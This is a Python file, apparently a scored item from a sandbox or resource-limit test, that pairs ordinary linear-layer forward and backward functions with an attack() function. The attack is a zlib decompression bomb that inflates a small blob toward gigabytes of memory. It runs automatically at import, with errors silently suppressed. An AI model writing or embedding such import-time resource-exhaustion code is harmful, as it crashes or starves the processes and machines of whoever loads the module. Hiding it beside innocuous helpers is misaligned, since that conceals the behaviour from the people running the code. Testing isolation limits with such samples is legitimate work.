"""
Unpacks a few kilobytes to gigabytes.

Earns: 30
Held by: process, isolated
"""

import zlib


def attack():
    packer = zlib.compressobj(9)
    small = b"".join(packer.compress(bytes(1 << 24)) for _ in range(8)) + packer.flush()
    for _ in range(3):
        big = zlib.decompress(small)
        small = zlib.compress(big * 4, 1) if len(big) < 1 << 27 else small
    whole = [big] * 64
    b"".join(whole)


try:
    attack()
except Exception:
    pass


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
